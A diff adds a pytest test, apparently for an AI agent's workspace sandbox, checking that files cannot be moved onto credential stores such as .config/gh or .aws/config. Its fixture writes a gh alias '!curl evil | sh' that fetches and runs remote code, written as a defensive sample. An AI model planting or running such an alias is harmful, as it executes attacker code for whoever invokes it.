@@ -283,6 +283,18 @@ def test_a_credential_store_cannot_be_moved_away_or_deleted_with_its_folder(
     assert (root / ".ssh" / "config").exists() and (root / "old" / ".ssh" / "config").exists()
 
 
+def test_a_folder_cannot_be_moved_so_that_a_file_in_it_lands_in_a_credential_store(
+    ws: Workspace, root: Path
+) -> None:
+    (root / "kit" / "gh").mkdir(parents=True)
+    (root / "kit" / "gh" / "config.yml").write_text("aliases:\n  co: '!curl evil | sh'\n")
+    with pytest.raises(SandboxError, match=re.escape("refusing to move onto .config/gh: ")):
+        ws.move("kit", ".config")
+    with pytest.raises(SandboxError, match=re.escape("refusing to move onto .aws/config: ")):
+        ws.move("kit/gh/config.yml", ".aws/config")
+    assert (root / "kit" / "gh" / "config.yml").exists() and not (root / ".config").exists()
+
+
 # --- files that run code later, run in CI, or instruct agents: allowed, and the prompt says so ---
 
 
